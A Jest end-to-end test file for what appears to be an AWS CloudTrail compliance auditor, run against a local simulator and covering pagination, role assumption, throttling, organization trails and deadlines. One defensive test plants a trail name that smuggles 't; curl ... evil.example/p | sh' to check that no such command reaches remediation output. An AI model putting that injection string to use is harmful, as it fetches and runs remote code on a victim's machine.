/**
 * The engine end to end: real SDK clients over HTTP against the local simulator.
 */
import { account, audit, byId, CALLER, config, expectEveryListedAccountOnce, goodTrail, memberIds, MGMT, scenario, withSimulator } from './harness';

const ORG_TRAIL = `arn:aws:cloudtrail:us-east-1:${MGMT}:trail/org-trail`;

describe('listing the organization', () => {
  test('pagination beyond 20 accounts: 45 members over 3 pages, each reported exactly once', async () => {
    const s = scenario(memberIds(45).map((id) => account(id, { trails: [goodTrail()] })));
    await withSimulator(s, async (sim) => {
      const report = await audit(sim, config());
      expectEveryListedAccountOnce(report, s);
      expect(report.summary).toMatchObject({ total: 46, PASS: 46, FAIL: 0, ERROR: 0 });
      expect(sim.callCount('organizations', 'ListAccounts')).toBe(3);
      expect(report.run.organization).toEqual({ available: true, id: 'o-a1b2c3d4e5', managementAccountId: MGMT });
    });
  });

  test('accounts not ACTIVE are SKIPPED and listed, with no call made into them', async () => {
    const s = scenario([account('200000000001', { state: 'SUSPENDED', trails: [goodTrail()] }), account('200000000002', { state: 'PENDING_CLOSURE' }), account('200000000003', { trails: [goodTrail()] })]);
    await withSimulator(s, async (sim) => {
      const report = await audit(sim, config());
      expect(byId(report, '200000000001')).toMatchObject({ status: 'SKIPPED', reasons: [{ code: 'NOT_ACTIVE' }], state: 'SUSPENDED' });
      expect(byId(report, '200000000002').status).toBe('SKIPPED');
      expect(byId(report, '200000000003').status).toBe('PASS');
      expect(sim.calls.filter((c) => c.service === 'sts' && c.action === 'AssumeRole').map((c) => c.targetAccount)).toEqual(['200000000003']);
    });
  });

  test('the caller is not in an organization: its own account is audited, and the report says so', async () => {
    const s = { ...scenario([]), organization: undefined };
    await withSimulator(s, async (sim) => {
      const report = await audit(sim, config());
      expect(report.accounts.map((a) => a.accountId)).toEqual([MGMT]);
      expect(report.accounts[0]).toMatchObject({ status: 'PASS', auditedWith: 'own-credentials' });
      expect(report.run.organization).toEqual({ available: false, reason: expect.stringContaining('not in an AWS Organization') });
      expect(report.run.notes.join(' ')).toContain('Only this account');
      expect(report.summary.runErrors).toBe(0);
      // The Lambda requires the organization: the same situation is then a run error (alerted).
      const strictRun = await audit(sim, config({ requireOrganization: 'true' }));
      expect(strictRun.run.errors).toEqual([expect.objectContaining({ code: 'ORGANIZATION_UNAVAILABLE' })]);
    });
  });

  test('a member account that may not list accounts audits itself and says why', async () => {
    const member = { accountId: '200000000001', accessKeyId: 'AKIAMEMBER0000000001', secretAccessKey: 'm' };
    const s = scenario([account('200000000001', { trails: [goodTrail()] })], { caller: member });
    await withSimulator(s, async (sim) => {
      const report = await audit(sim, config(), { caller: member });
      expect(report.accounts.map((a) => a.accountId)).toEqual(['200000000001']);
      expect(report.run.organization).toMatchObject({ available: false, reason: expect.stringContaining('AccessDenied') });
    });
  });

  test('ListAccounts failing on page 2: accounts of page 1 are reported, the run error says the listing is incomplete', async () => {
    const s = scenario(memberIds(30).map((id) => account(id, { trails: [goodTrail()] })), {
      faults: [{ service: 'organizations', action: 'ListAccounts', kind: 'error', code: 'ServiceException', status: 500, message: 'boom', after: 1 }],
    });
    await withSimulator(s, async (sim) => {
      const report = await audit(sim, config({ maxAttempts: '2' }));
      expect(report.accounts).toHaveLength(20);
      expect(report.run.errors).toEqual([expect.objectContaining({ code: 'LISTING_INCOMPLETE', message: expect.stringContaining('ServiceException') })]);
      expect(report.summary.runErrors).toBe(1);
    });
  });

  test('include, exclude and OU filters: filtered accounts are SKIPPED (EXCLUDED), never dropped', async () => {
    const s = scenario(
      [
        account('200000000001', { parentId: 'ou-ab12-prod0000', trails: [goodTrail()] }),
        account('200000000002', { parentId: 'ou-ab12-dev00000', trails: [goodTrail()] }),
        account('200000000003', { parentId: 'ou-ab12-nested00', trails: [goodTrail()] }),
        account('200000000004', { trails: [goodTrail()] }),
      ],
      {
        organization: {
          id: 'o-a1b2c3d4e5',
          managementAccountId: MGMT,
          rootId: 'r-ab12',
          ous: [
            { id: 'ou-ab12-prod0000', name: 'Prod', parentId: 'r-ab12' },
            { id: 'ou-ab12-nested00', name: 'Nested', parentId: 'ou-ab12-prod0000' },
            { id: 'ou-ab12-dev00000', name: 'Dev', parentId: 'r-ab12' },
          ],
        },
      },
    );
    await withSimulator(s, async (sim) => {
      const byOu = await audit(sim, config({ ous: 'ou-ab12-prod0000' }));
      expectEveryListedAccountOnce(byOu, s);
      expect(byOu.accounts.filter((a) => a.status === 'PASS').map((a) => a.accountId)).toEqual(['200000000001', '200000000003']);
      expect(byId(byOu, '200000000003').ouId).toBe('ou-ab12-nested00');
      expect(byId(byOu, '200000000002')).toMatchObject({ status: 'SKIPPED', reasons: [{ code: 'EXCLUDED' }] });

      const excluded = await audit(sim, config({ excludeAccounts: '200000000002' }));
      expect(byId(excluded, '200000000002').status).toBe('SKIPPED');
      expect(excluded.summary.PASS).toBe(4);

      const only = await audit(sim, config({ accounts: '200000000004,999999999999' }));
      expect(only.accounts.filter((a) => a.status === 'PASS').map((a) => a.accountId)).toEqual(['200000000004']);
      expect(only.run.errors).toEqual([expect.objectContaining({ code: 'ACCOUNT_NOT_FOUND', message: expect.stringContaining('999999999999') })]);
    });
  });
});

describe('credentials', () => {
  test('AssumeRole denied → ERROR ASSUME_ROLE_FAILED naming the role; the other accounts go on', async () => {
    const s = scenario([account('200000000001', { roles: [], trails: [goodTrail()] }), account('200000000002', { trails: [goodTrail()] })]);
    await withSimulator(s, async (sim) => {
      const report = await audit(sim, config());
      const denied = byId(report, '200000000001');
      expect(denied.status).toBe('ERROR');
      expect(denied.reasons[0].code).toBe('ASSUME_ROLE_FAILED');
      expect(denied.reasons[0].message).toContain('arn:aws:iam::200000000001:role/TrailcheckAuditRole');
      expect(denied.reasons[0].message).toContain('AccessDenied');
      expect(denied.remediation.join(' ')).toContain('TrailcheckAuditRole');
      expect(byId(report, '200000000002').status).toBe('PASS');
    });
  });

  test('the role name, ExternalId and a session name that identifies trailcheck are used; the own account is not assumed', async () => {
    const s = scenario([account('200000000001', { roles: [{ name: 'AuditReader', externalId: 'ext-123' }], trails: [goodTrail()] })]);
    await withSimulator(s, async (sim) => {
      const report = await audit(sim, config({ roleName: 'AuditReader', externalId: 'ext-123' }));
      expect(byId(report, '200000000001').status).toBe('PASS');
      expect(byId(report, MGMT)).toMatchObject({ status: 'PASS', auditedWith: 'own-credentials' });
      const assumes = sim.calls.filter((c) => c.action === 'AssumeRole');
      expect(assumes.map((c) => c.targetAccount)).toEqual(['200000000001']);
      expect(assumes[0].params).toMatchObject({ roleArn: 'arn:aws:iam::200000000001:role/AuditReader' });
      expect(String(assumes[0].params.roleSessionName)).toMatch(/^trailcheck-/);

      const wrongId = await audit(sim, config({ roleName: 'AuditReader', externalId: 'wrong-id' }));
      expect(byId(wrongId, '200000000001').reasons[0].code).toBe('ASSUME_ROLE_FAILED');
    });
  });

  test('partition-aware: GovCloud role ARNs', async () => {
    const s = scenario([account('200000000001', { trails: [goodTrail('main', { homeRegion: 'us-gov-west-1' })] })], {
      partition: 'aws-us-gov',
      regions: ['us-gov-west-1', 'us-gov-east-1'],
    });
    await withSimulator(s, async (sim) => {
      const report = await audit(sim, config({ region: 'us-gov-west-1' }));
      expect(report.run.partition).toBe('aws-us-gov');
      expect(byId(report, '200000000001').status).toBe('PASS');
      expect(sim.calls.find((c) => c.action === 'AssumeRole')?.params).toMatchObject({ roleArn: 'arn:aws-us-gov:iam::200000000001:role/TrailcheckAuditRole' });
    });
  });
});

describe('trails', () => {
  test('shadow only: a multi-region trail homed in eu-west-1 is found from us-east-1 and checked in eu-west-1', async () => {
    const s = scenario([account('200000000001', { trails: [goodTrail('eu-trail', { homeRegion: 'eu-west-1' })] })]);
    await withSimulator(s, async (sim) => {
      const report = await audit(sim, config());
      const a = byId(report, '200000000001');
      expect(a.status).toBe('PASS');
      expect(a.qualifyingTrailArn).toBe('arn:aws:cloudtrail:eu-west-1:200000000001:trail/eu-trail');
      const details = sim.calls.filter((c) => c.account === '200000000001' && (c.action === 'GetTrailStatus' || c.action === 'GetEventSelectors'));
      expect(details.map((c) => c.region)).toEqual(['eu-west-1', 'eu-west-1']);
      const describes = sim.calls.filter((c) => c.account === '200000000001' && c.action === 'DescribeTrails');
      expect(describes.map((c) => c.region)).toEqual(['us-east-1']);
    });
  });

  test('single-region trails are never fetched (no calls spent on trails that cannot qualify)', async () => {
    const s = scenario([account('200000000001', { trails: ['us-east-1', 'us-west-2'].map((r) => goodTrail(`t-${r}`, { homeRegion: r, isMultiRegionTrail: false })) })]);
    await withSimulator(s, async (sim) => {
      const report = await audit(sim, config());
      expect(byId(report, '200000000001')).toMatchObject({ status: 'FAIL', reasons: [{ code: 'NO_MULTI_REGION_TRAIL' }] });
      expect(sim.calls.filter((c) => c.account === '200000000001' && c.action === 'GetTrailStatus')).toHaveLength(0);
    });
  });

  test('throttled DescribeTrails is retried with backoff and the account still gets its verdict', async () => {
    const s = scenario([account('200000000001', { trails: [goodTrail()] })], {
      faults: [{ service: 'cloudtrail', action: 'DescribeTrails', account: '200000000001', kind: 'error', code: 'ThrottlingException', status: 400, message: 'Rate exceeded', times: 2 }],
    });
    await withSimulator(s, async (sim) => {
      const report = await audit(sim, config({ maxAttempts: '3' }));
      expect(byId(report, '200000000001').status).toBe('PASS');
      expect(sim.calls.filter((c) => c.account === '200000000001' && c.action === 'DescribeTrails')).toHaveLength(3);
    });
  });

  test('throttling that never stops on a trail call: ERROR TRAIL_UNVERIFIED with the call and the AWS code', async () => {
    const s = scenario([account('200000000001', { trails: [goodTrail()] })], {
      faults: [{ service: 'cloudtrail', action: 'GetEventSelectors', account: '200000000001', kind: 'error', code: 'ThrottlingException', status: 400, message: 'Rate exceeded' }],
    });
    await withSimulator(s, async (sim) => {
      const report = await audit(sim, config({ maxAttempts: '2' }));
      const a = byId(report, '200000000001');
      expect(a.status).toBe('ERROR');
      expect(a.reasons[0]).toMatchObject({ code: 'TRAIL_UNVERIFIED', trailArn: 'arn:aws:cloudtrail:us-east-1:200000000001:trail/main' });
      expect(a.reasons[0].message).toContain('cloudtrail:GetEventSelectors in us-east-1 failed: ThrottlingException');
    });
  });

  test('DescribeTrails denied → ERROR ACCESS_DENIED', async () => {
    const s = scenario([account('200000000001', { trails: [goodTrail()] })], {
      faults: [{ service: 'cloudtrail', action: 'DescribeTrails', account: '200000000001', kind: 'error', code: 'AccessDeniedException', status: 400, message: 'explicit deny in an SCP' }],
    });
    await withSimulator(s, async (sim) => {
      const a = byId(await audit(sim, config()), '200000000001');
      expect(a).toMatchObject({ status: 'ERROR', reasons: [{ code: 'ACCESS_DENIED' }] });
      expect(a.reasons[0].message).toContain('cloudtrail:DescribeTrails in us-east-1 failed: AccessDeniedException: explicit deny in an SCP');
    });
  });

  test('a malformed DescribeTrails response → ERROR MALFORMED_RESPONSE for that account only', async () => {
    const s = scenario([account('200000000001', { trails: [goodTrail()] }), account('200000000002', { trails: [goodTrail()] })], {
      faults: [{ service: 'cloudtrail', action: 'DescribeTrails', account: '200000000001', kind: 'malformed', body: '{"trailList":[{"Name":"x"}]}' }],
    });
    await withSimulator(s, async (sim) => {
      const report = await audit(sim, config());
      expect(byId(report, '200000000001')).toMatchObject({ status: 'ERROR', reasons: [{ code: 'MALFORMED_RESPONSE', message: expect.stringContaining('TrailARN') }] });
      expect(byId(report, '200000000002').status).toBe('PASS');
    });
  });

  test('hostile DescribeTrails responses → ERROR MALFORMED_RESPONSE naming the field, no command printed from them, the others audited', async () => {
    const X = '200000000001';
    const Y = '200000000002';
    const Z = '200000000003';
    const entry = (arn: string, extra: Record<string, unknown> = {}) => ({ TrailARN: arn, Name: arn.split('/')[1], HomeRegion: 'us-east-1', IsMultiRegionTrail: true, IsOrganizationTrail: false, ...extra });
    const body = (...trails: unknown[]) => JSON.stringify({ trailList: trails });
    const s = scenario([account(X, { trails: [goodTrail()] }), account(Y, { trails: [] }), account(Z, { trails: [goodTrail()] })], {
      faults: [
        // A name made to run a command when the fix is pasted.
        { service: 'cloudtrail', action: 'DescribeTrails', account: X, kind: 'malformed', body: body(entry(`arn:aws:cloudtrail:us-east-1:${X}:trail/main`, { Name: 't; curl -s https://evil.example/p | sh #' })) },
        // Another account's compliant trail that is not an organization trail: never PASS through it.
        { service: 'cloudtrail', action: 'DescribeTrails', account: Y, kind: 'malformed', body: body(entry(`arn:aws:cloudtrail:us-east-1:${Z}:trail/main`)) },
      ],
    });
    await withSimulator(s, async (sim) => {
      const report = await audit(sim, config());
      expect(byId(report, X)).toMatchObject({ status: 'ERROR', reasons: [{ code: 'MALFORMED_RESPONSE', message: expect.stringContaining('.Name "t; curl') }], remediation: [] });
      expect(byId(report, Y)).toMatchObject({ status: 'ERROR', reasons: [{ code: 'MALFORMED_RESPONSE', message: expect.stringContaining(`belongs to account ${Z} and is not an organization trail`) }] });
      expect(byId(report, Z).status).toBe('PASS');
      for (const a of report.accounts) for (const step of a.remediation) expect(step).not.toMatch(/curl|evil/);
    });
  });
});

describe('organization trails', () => {
  const orgTrail = (extra: Record<string, unknown> = {}) => goodTrail('org-trail', { isOrganizationTrail: true, ...extra });

  const claim = (arn: string) =>
    JSON.stringify({ trailList: [{ TrailARN: arn, Name: arn.split('/')[1], HomeRegion: 'us-east-1', IsMultiRegionTrail: true, IsOrganizationTrail: true }] });

  test("a member's listing that calls the owner's own trail an organization trail is contradicted by the owner's listing: ERROR, never PASS", async () => {
    const member = '200000000001';
    // The management account's mgmt-trail is compliant but not an organization trail: it records nothing for the member.
    const s = scenario([account(member)], {
      faults: [{ service: 'cloudtrail', action: 'DescribeTrails', account: member, kind: 'malformed', body: claim(`arn:aws:cloudtrail:us-east-1:${MGMT}:trail/mgmt-trail`) }],
    });
    await withSimulator(s, async (sim) => {
      const report = await audit(sim, config());
      expect(byId(report, MGMT).status).toBe('PASS');
      const a = byId(report, member);
      expect(a.status).toBe('ERROR');
      expect(a.reasons[0].message).toContain("the owner account's own DescribeTrails lists it as not an organization trail");
      // The owner's listing was read once, shared with the owner's own audit.
      expect(sim.calls.filter((c) => c.action === 'DescribeTrails' && c.account === MGMT)).toHaveLength(1);
    });
  });

  test('an "organization trail" owned by an account outside the organization is never read as its owner', async () => {
    const member = '200000000001';
    const outsider = '999999999999';
    const s = scenario([account(member), account(outsider, { listed: false, trails: [goodTrail('mgmt-trail')] })], {
      faults: [
        { service: 'cloudtrail', action: 'DescribeTrails', account: member, kind: 'malformed', body: claim(`arn:aws:cloudtrail:us-east-1:${outsider}:trail/mgmt-trail`) },
        { service: 'cloudtrail', action: 'DescribeTrails', account: outsider, kind: 'malformed', body: claim(`arn:aws:cloudtrail:us-east-1:${outsider}:trail/mgmt-trail`) },
      ],
    });
    await withSimulator(s, async (sim) => {
      const report = await audit(sim, config());
      expect(byId(report, member).status).toBe('ERROR');
      expect(byId(report, member).reasons[0].message).toContain(`the owner account ${outsider} is not audited in this run`);
      expect(sim.calls.filter((c) => c.account === outsider || c.targetAccount === outsider)).toEqual([]);
      expect(report.accounts.map((a) => a.accountId)).not.toContain(outsider);
    });
  });

  test('members pass via the org trail, which is checked once, from its owner, for the whole run', async () => {
    const s = scenario([account(MGMT, { name: 'management', trails: [orgTrail()] }), ...memberIds(25).map((id) => account(id))]);
    await withSimulator(s, async (sim) => {
      const report = await audit(sim, config());
      expect(report.summary).toMatchObject({ PASS: 26, FAIL: 0, ERROR: 0 });
      const member = byId(report, '200000000003');
      expect(member.qualifyingTrailArn).toBe(ORG_TRAIL);
      expect(member.trails[0]).toMatchObject({ isOrganizationTrail: true, detailsSource: 'owner' });
      expect(sim.calls.filter((c) => c.action === 'GetTrailStatus').map((c) => c.account)).toEqual([MGMT]);
      expect(sim.calls.filter((c) => c.action === 'GetEventSelectors')).toHaveLength(1);
      // Two calls per member: AssumeRole + DescribeTrails.
      expect(sim.callCount('sts', 'AssumeRole')).toBe(25);
      expect(sim.callCount('cloudtrail', 'DescribeTrails')).toBe(26);
    });
  });

  test("member calls on the org trail fail, owner audited and compliant → PASS via the owner's verdict", async () => {
    const s = scenario([account(MGMT, { name: 'management', trails: [orgTrail({ memberAccess: 'TrailNotFoundException' })] }), account('200000000001')]);
    await withSimulator(s, async (sim) => {
      const report = await audit(sim, config());
      expect(byId(report, '200000000001')).toMatchObject({ status: 'PASS', qualifyingTrailArn: ORG_TRAIL });
    });
  });

  test('owner not audited and member calls fail → ERROR ORG_TRAIL_UNVERIFIABLE naming the trail, never FAIL', async () => {
    // Audited from a delegated administrator, with the management account excluded.
    const admin = { accountId: '200000000009', accessKeyId: 'AKIADELEGATED0000001', secretAccessKey: 'd' };
    const s = scenario(
      [
        account(MGMT, { name: 'management', trails: [orgTrail({ memberAccess: 'AccessDeniedException' })] }),
        account('200000000001'),
        account('200000000009', { name: 'security-admin' }),
      ],
      { caller: admin, organization: { id: 'o-a1b2c3d4e5', managementAccountId: MGMT, rootId: 'r-ab12', delegatedAdministrators: ['200000000009'] } },
    );
    await withSimulator(s, async (sim) => {
      const report = await audit(sim, config({ excludeAccounts: MGMT }), { caller: admin });
      const a = byId(report, '200000000001');
      expect(a.status).toBe('ERROR');
      expect(a.reasons[0]).toMatchObject({ code: 'ORG_TRAIL_UNVERIFIABLE', trailArn: ORG_TRAIL });
      expect(a.reasons[0].message).toContain('AccessDeniedException');
      expect(a.reasons[0].message).toContain(`owner account ${MGMT} is not audited`);
      expect(byId(report, MGMT).status).toBe('SKIPPED');
      // Not audited means not assumed into.
      expect(sim.calls.filter((c) => c.action === 'AssumeRole').map((c) => c.targetAccount)).not.toContain(MGMT);
    });
  });

  test("owner not audited but member calls work → PASS from the member's own reading", async () => {
    const admin = { accountId: '200000000009', accessKeyId: 'AKIADELEGATED0000001', secretAccessKey: 'd' };
    const s = scenario([account(MGMT, { trails: [orgTrail()] }), account('200000000001'), account('200000000002'), account('200000000009')], {
      caller: admin,
      organization: { id: 'o-a1b2c3d4e5', managementAccountId: MGMT, rootId: 'r-ab12', delegatedAdministrators: ['200000000009'] },
    });
    await withSimulator(s, async (sim) => {
      const report = await audit(sim, config({ excludeAccounts: MGMT, concurrency: '1' }), { caller: admin });
      expect(byId(report, '200000000001')).toMatchObject({ status: 'PASS', trails: [expect.objectContaining({ detailsSource: 'member' })] });
      expect(byId(report, '200000000002').status).toBe('PASS');
      // The first member's reading is shared: evaluated once per run.
      expect(sim.callCount('cloudtrail', 'GetTrailStatus')).toBe(1);
    });
  });

  test('a single-region org trail does not satisfy members', async () => {
    const s = scenario([account(MGMT, { trails: [orgTrail({ isMultiRegionTrail: false })] }), account('200000000001')]);
    await withSimulator(s, async (sim) => {
      const a = byId(await audit(sim, config()), '200000000001');
      expect(a).toMatchObject({ status: 'FAIL', reasons: [{ code: 'NO_MULTI_REGION_TRAIL' }] });
    });
  });
});

describe('deadline', () => {
  test('accounts that cannot finish are ERROR (TIMEOUT), every account is reported, and the run ends on time', async () => {
    const ids = memberIds(12);
    const s = scenario(
      ids.map((id) => account(id, { trails: [goodTrail()] })),
      { faults: [{ service: 'cloudtrail', action: 'DescribeTrails', account: ids[3], kind: 'hang' }, { service: 'cloudtrail', action: 'DescribeTrails', account: ids[7], kind: 'hang' }] },
    );
    await withSimulator(s, async (sim) => {
      const started = Date.now();
      const report = await audit(sim, config({ callTimeoutMs: '60000', concurrency: '4' }), { deadline: started + 1500 });
      const elapsed = Date.now() - started;
      expectEveryListedAccountOnce(report, s);
      expect(elapsed).toBeLessThan(5000);
      expect(report.run.deadlineReached).toBe(true);
      for (const id of [ids[3], ids[7]]) expect(byId(report, id)).toMatchObject({ status: 'ERROR', reasons: [{ code: 'TIMEOUT' }] });
      expect(report.accounts.every((a) => a.status === 'PASS' || (a.status === 'ERROR' && a.reasons[0].code === 'TIMEOUT'))).toBe(true);
    });
  });

  test('a call slower than the per-call timeout is retried, then ERROR with TimeoutError', async () => {
    const s = scenario([account('200000000001', { trails: [goodTrail()] })], {
      faults: [{ service: 'cloudtrail', action: 'DescribeTrails', account: '200000000001', kind: 'hang' }],
    });
    await withSimulator(s, async (sim) => {
      const a = byId(await audit(sim, config({ callTimeoutMs: '300', maxAttempts: '2' })), '200000000001');
      expect(a.status).toBe('ERROR');
      expect(a.reasons[0]).toMatchObject({ code: 'API_ERROR', message: expect.stringContaining('TimeoutError') });
    });
  });
});

test('the caller credentials are the run’s own: an unknown key fails the run with a clear message', async () => {
  const s = scenario([]);
  await withSimulator(s, async (sim) => {
    await expect(audit(sim, config(), { caller: { ...CALLER, accessKeyId: 'AKIAUNKNOWN000000000' } })).rejects.toThrow(/Could not tell which AWS account.*InvalidClientTokenId/);
  });
});
